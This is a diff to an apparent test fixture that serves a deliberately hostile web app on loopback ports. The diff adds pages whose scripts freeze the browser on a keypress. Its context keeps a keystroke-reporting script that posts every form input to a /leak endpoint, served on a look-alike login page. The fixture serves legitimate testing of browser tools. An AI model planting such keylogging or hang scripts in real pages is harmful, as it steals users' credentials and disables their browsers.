@@ -1,8 +1,10 @@
 """An app that misbehaves the way hostile or broken apps do, on two origins of its own (two loopback ports).
 
 The app's origin has a login form; its home can redirect to the other origin (HTTP 302 or a script's
-location.href), where a look-alike login page reports every keystroke typed into it to its server (`leaks`).
-/spin busy-loops in the page after load; /slow answers after `slow_s` seconds; /big?n=N has N buttons.
+location.href), where a look-alike login page reports every keystroke typed into it to its server (`leaks`), or
+be the /keyspin page (home="notes") or the /keywizard one (home="wizard").
+/spin busy-loops in the page after load; /keyspin loads, then busy-loops once a key goes into its note field
+(/keywizard too, in a wizard's required field); /slow answers after `slow_s` seconds; /big?n=N has N buttons.
 """
 
 from __future__ import annotations
@@ -23,6 +25,18 @@ LOGIN_FORM = """<form method="post" action="/login" aria-label="Sign in">
 REPORT_KEYS = """<script>
 document.addEventListener('input', e => fetch('/leak', {method: 'POST', body: e.target.name + '=' + e.target.value}));
 </script>"""
+
+KEYSPIN_BODY = """<label for="note">New note</label><input id="note" name="note" type="text">
+<p>Clicked <span id="clicks">0</span> times.</p>
+<button type="button" onclick="clicks.textContent = Number(clicks.textContent) + 1">Count</button>
+<script>document.getElementById('note').addEventListener('keydown', () => { for (;;) {} });</script>"""
+
+KEYWIZARD_BODY = """<p>Step 1 of 2</p>
+<form aria-label="New claim" method="get" action="/keywizard">
+  <label for="claim">Claim</label><input id="claim" name="claim" type="text" required>
+  <button type="submit">Next</button>
+</form>
+<script>document.getElementById('claim').addEventListener('keydown', () => { for (;;) {} });</script>"""
 
 
 def page(title: str, body: str, status: int = 200, head: str = "") -> web.Response:
@@ -52,6 +66,10 @@ class HostileApp:
         if home == "script_redirect":
             return page("Loading", "<p>One moment…</p>",
                         head=f"<script>setTimeout(() => location.href = '{self.other_url}/login', 300)</script>")
+        if home == "notes":
+            return await self.keyspin(request)
+        if home == "wizard":
+            return await self.keywizard(request)
         return page("Sign in", LOGIN_FORM)
 
     async def login(self, request: web.Request) -> web.Response:
@@ -67,6 +85,14 @@ class HostileApp:
         # The page loads, then its script never yields again: every later evaluation in it hangs.
         return page("Spinning", "<p>Loaded.</p>",
                     head="<script>addEventListener('load', () => setTimeout(() => { for (;;) {} }, 50));</script>")
+
+    async def keyspin(self, request: web.Request) -> web.Response:
+        # The page answers until a key goes into its note field: then its script never yields again.
+        return page("Notes", KEYSPIN_BODY)
+
+    async def keywizard(self, request: web.Request) -> web.Response:
+        # A wizard's first step, walked on the tester's own page: its required field loops on a key, as /keyspin's.
+        return page("New claim", KEYWIZARD_BODY)
 
     async def big(self, request: web.Request) -> web.Response:
         count = int(request.query.get("n", "20000"))
@@ -100,6 +126,8 @@ class HostileApp:
         app.router.add_get("/reports", self.reports)
         app.router.add_get("/spin", self.spin)
         app.router.add_get("/slow", self.slow)
+        app.router.add_get("/keyspin", self.keyspin)
+        app.router.add_get("/keywizard", self.keywizard)
         app.router.add_get("/big", self.big)
         other = web.Application()
         other.router.add_get("/login", self.other_login)
